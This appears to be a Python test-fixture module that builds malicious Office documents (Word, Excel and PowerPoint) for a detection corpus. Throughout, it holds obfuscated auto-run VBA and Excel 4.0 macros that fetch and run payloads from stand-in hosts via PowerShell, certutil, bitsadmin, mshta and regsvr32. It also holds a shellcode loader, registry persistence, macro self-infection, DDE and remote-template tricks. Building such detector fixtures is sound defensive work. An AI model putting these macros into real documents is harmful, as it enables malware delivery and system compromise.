"""Office documents that act badly, disguised in the ways that are common."""

from __future__ import annotations

import base64

from tools.corpus.detections import office_files as files
from tools.corpus.detections.case import Case
from tools.corpus.detections.collected import documents
from tools.corpus.detections.office_sheets import SHEETS_BAD
from tools.corpus.detections.rtf_bad import RTF_BAD


def _hex(text: str) -> str:
    return text.encode().hex()


def _base64(text: str, codec: str = "utf-8") -> str:
    return base64.b64encode(text.encode(codec)).decode()


_SPLIT = f"""
Sub AutoOpen()
    Dim a As String, b As String
    a = "pow" & "ersh" & "ell -nop -w hid" & "den -e" & "nc "
    b = "{_base64("IEX (New-Object Net.WebClient).DownloadString('http://a.example/s')", "utf-16-le")}"
    Shell a & b, vbHide
End Sub
"""
_CHR = """
Private Sub Document_Open()
    Dim o As Object, t$, i%
    Dim c: c = Array(99, 109, 100, 32, 47, 99, 32, 109, 115, 104, 116, 97, 32, 104, 116, 116, 112, _
        58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 97, 46, 104, 116, 97)
    For i = LBound(c) To UBound(c)
        t$ = t$ & Chr$(c(i))
    Next
    Set o = CreateObject("WScr" + "ipt.S" & ChrW(104) & "ell")
    CallByName o, StrReverse("nuR"), VbMethod, t$, 0, False
End Sub
"""
_VARIABLES = """
Function Unhex(ByVal s As String) As String
    Dim i As Long
    For i = 1 To Len(s) Step 2
        Unhex = Unhex & Chr(CLng("&H" & Mid(s, i, 2)))
    Next i
End Function
Sub AutoOpen()
    On Error Resume Next
    Call Shell(Unhex(ActiveDocument.Variables("stage").Value), 0)
End Sub
"""
_CELLS = """
Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" _
    (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long
Sub Auto_Open()
    Dim cell As Range, u As String, p As String
    For Each cell In Sheets(1).Range("B2:B5")
        u = u & cell.Value
    Next cell
    p = Environ$("APPDATA") & "\\" & Cells(1, 3).Value
    If Fetch(0, StrReverse(u), p, 0, 0) = 0 Then Shell p, vbMinimizedNoFocus
End Sub
"""
_DOWNLOAD = """
Private Sub Workbook_Open()
    Dim http As Object, s As Object, path As String
    path = Environ("TEMP") & Application.PathSeparator & "report.exe"
    Set http = CreateObject("MSXML2.ServerXMLHTTP")
    http.Open "GET", "http://" & Join(Split("cdn|files|example", "|"), ".") & "/r", False
    http.send
    Set s = CreateObject("Adodb.Stream")
    With s
        .Type = 1
        .Open
        .write http.responseBody
        .savetofile path, 2
    End With
    CreateObject("Shell.Application").ShellExecute path
End Sub
"""
_SHELLCODE = """
#If VBA7 Then
Private Declare PtrSafe Function VirtualAlloc Lib "KERNEL32" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "KERNEL32" (ByVal d As LongPtr, ByRef s As Any, ByVal l As Long) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "KERNEL32" (ByVal a As Long, ByVal s As Long, ByVal f As LongPtr, p As LongPtr, ByVal c As Long, i As Long) As LongPtr
#Else
Private Declare Function VirtualAlloc Lib "KERNEL32" (ByVal a As Long, ByVal s As Long, ByVal t As Long, ByVal p As Long) As Long
#End If
Sub AutoOpen()
    Dim buf As Variant, addr As LongPtr, n As Long, b As Long
    buf = Array(144, 144, 144, 204, 195)
    addr = VirtualAlloc(0, UBound(buf), &H3000, &H40)
    For n = LBound(buf) To UBound(buf)
        b = buf(n)
        RtlMoveMemory addr + n, b, 1
    Next n
    CreateThread 0, 0, addr, 0, 0, 0
End Sub
"""
_PROPERTY = """
Sub AutoClose()
    Dim wmi As Object, start As Object, pid
    Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")
    Set start = wmi.Get("Win32_ProcessStartup").SpawnInstance_
    start.ShowWindow = 0
    wmi.Get("Win32_Process").Create ActiveDocument.BuiltInDocumentProperties("Comments").Value, Null, start, pid
End Sub
"""
_NODE = f"""
Private Function B(ByVal t As String) As Byte()
    With CreateObject("MSXML2.DOMDocument").createElement("x")
        .DataType = "bin.base64"
        .Text = t
        B = .nodeTypedValue
    End With
End Function
Sub Document_Open()
    On Error GoTo Done
    Dim line As String
    line = StrConv(B("{_base64("rundll32 javascript:a")}"), vbUnicode)
    Debug.Print line
    CreateObject("WScript.Shell").Exec line
Done:
End Sub
"""
_BATCH = """
Sub AutoClose()
    Dim f As Integer, p As String
    p = Environ("PUBLIC") & "\\" & Replace("up!date!.bat", "!", "")
    f = FreeFile
    Open p For Output As #f
    Print #f, "@echo off"
    Print #f, "bitsadmin /transfer a http://b.example/x %TEMP%\\x.exe & start %TEMP%\\x.exe"
    Close #f
    Shell "cmd /c " & Chr(34) & p & Chr(34), vbHide
End Sub
"""
_REGISTRY = """
Private Sub Workbook_BeforeClose(Cancel As Boolean)
    Dim w As Object: Set w = CreateObject("WScript.Shell")
    w.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync", "mshta " & Chr(34) & _
        Environ("APPDATA") & "\\s.hta" & Chr(34), "REG_SZ"
    w.RegWrite "HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security\\VBAWarnings", 1, "REG_DWORD"
End Sub
"""
_FORM = """
Sub AutoOpen()
    Dim k As Integer, s As String, t As String
    s = UserForm1.Caption & UserForm1.Tag
    For k = 1 To Len(s)
        t = t & Chr(Asc(Mid(s, k, 1)) - 1)
    Next
    Shell t
End Sub
"""
_CALLBACK = """
Sub Auto_Open()
    Application.OnTime Now + TimeValue("00:05:00"), "Later"
End Sub
Sub Later()
    Application.Run "St" & "ep", "certutil -urlcache -split -f http://c.example/a a.exe"
End Sub
Public Sub Step(ByVal what As String)
    Dim s: Set s = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")
    s.Run what, 0
End Sub
"""
_INFECTION = """
Sub Document_Close()
    Dim me_, there
    On Error Resume Next
    Set me_ = ThisDocument.VBProject.VBComponents(1).CodeModule
    Set there = NormalTemplate.VBProject.VBComponents(1).CodeModule
    there.AddFromString me_.Lines(1, me_.CountOfLines)
End Sub
"""
_SLIDES = """
Sub Auto_Open()
    Dim parts: parts = Split("cmd|/c|regsvr32|/s|/u|/i:http://h.example/s.sct|scrobj.dll", "|")
    CreateObject("WScript.Shell").Run Join(parts, Space(1)), 0
End Sub
"""
_COMMAND = "cmd /c powershell -c iex(iwr http://d.example/p)"


def _shifted(text: str) -> str:
    return "".join(chr(ord(char) + 1) for char in text)


def _binary_sheet() -> bytes:
    """=EXEC("cmd /c start " & MID("xmshta http://g.example/", 2, 99)), =HALT()"""
    number = b"\x1e\x02\x00", b"\x1e\x63\x00"
    words = files.string_token("xmshta http://g.example/") + b"".join(number) + b"\x41\x1f\x00"
    line = files.string_token("cmd /c start ") + words + b"\x08"
    return files.macro_xls(line + files.function_token(0x6E, 1), files.function_token(0x36, 0))


OFFICE_BAD: tuple[Case, ...] = (
    Case("split.docm", "docm", lambda: files.docm(_SPLIT), "powershell-downloads"),
    Case("chr.docm", "docm", lambda: files.docm(document=_CHR), "document-starts-shell"),
    Case(
        "variables.docm",
        "docm",
        lambda: files.with_variables(_VARIABLES, {"stage": _hex(_COMMAND)}),
        "powershell-downloads",
    ),
    Case(
        "cells.xlsm",
        "xlsm",
        lambda: files.xlsm(
            _CELLS,
            cells={
                "C1": "sync.exe",
                "B2": "exe.s/",
                "B3": "elpmaxe",
                "B4": ".ndc//",
                "B5": ":ptth",
            },
        ),
        "windows-download-and-run",
    ),
    Case(
        "download.xlsm",
        "xlsm",
        lambda: files.xlsm(document=_DOWNLOAD),
        "windows-download-and-run",
    ),
    Case("memory.docm", "docm", lambda: files.docm(_SHELLCODE), "document-runs-memory"),
    Case(
        "property.docm",
        "docm",
        lambda: files.with_comments(_PROPERTY, "powershell -w hidden -c calc"),
        "wmi-process-by-document",
    ),
    Case("node.docm", "docm", lambda: files.docm(document=_NODE), "system-program-misused"),
    Case("batch.doc", "ole-doc", lambda: files.doc(_BATCH), "document-writes-program"),
    Case(
        "registry.xls",
        "ole-xls",
        lambda: files.xls("", document=_REGISTRY),
        "disables-windows-defences-by-registry",
    ),
    Case(
        "form.docm",
        "docm",
        lambda: files.with_form(_FORM, _shifted(_COMMAND[:20]), _shifted(_COMMAND[20:])),
        "powershell-downloads",
    ),
    Case("callback.xlsm", "xlsm", lambda: files.xlsm(_CALLBACK), "shell-downloads"),
    Case("slides.pptm", "pptm", lambda: files.pptm(_SLIDES), "document-starts-shell"),
    Case("infection.docm", "docm", lambda: files.docm(document=_INFECTION), "writes-macros"),
    Case(
        "sheet.xlsm",
        "xlsm",
        lambda: files.xlsm(
            macro_cells={
                "A1": "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))",
                "A2": '=SET.NAME("c",CHAR(99)&CHAR(109)&CHAR(100)&" /c ")',
                "A3": '=EXEC(c&B1&MID("xxmshta http://e.example/a",3,99))',
                "A4": "=HALT()",
                "B1": "start ",
            },
            names={"_xlnm.Auto_Open": "Macro1!$A$1"},
        ),
        "document-starts-shell",
    ),
    Case(
        "writing-sheet.xlsm",
        "xlsm",
        lambda: files.xlsm(
            macro_cells={
                "A1": '=FORMULA("=CA"&"LL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,B1,B2,0,0)",A3)',
                "A2": '=SET.VALUE(B2,"C:\\Users\\Public\\"&"x.dll")',
                "A4": '=IF(1=1,EXEC("rundll32 "&B2&",Start"),RETURN())',
                "A5": "=RETURN()",
                "B1": "http://f.example/x.dll",
            },
            names={"Auto_Open1": "Macro1!$A$1"},
        ),
        "windows-download-and-run",
    ),
    Case("sheet.xls", "ole-xls", _binary_sheet, "document-starts-shell"),
    Case(
        "dde.docx",
        "docx",
        lambda: files.docx_field(
            "DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc.exe"'
        ),
        "document-starts-shell",
    ),
    Case(
        "bare-template.docx",
        "docx",
        lambda: files.docx_template("http://198.51.100.8/office/Normal.dotm"),
        "template-from-bare-address",
    ),
    Case(
        "package.docx",
        "docx",
        lambda: files.docx_package("Invoice.pdf.exe", b"MZ" + bytes(200)),
        "embedded-program",
    ),
    *SHEETS_BAD,
    *RTF_BAD,
    *documents("office_bad"),
)
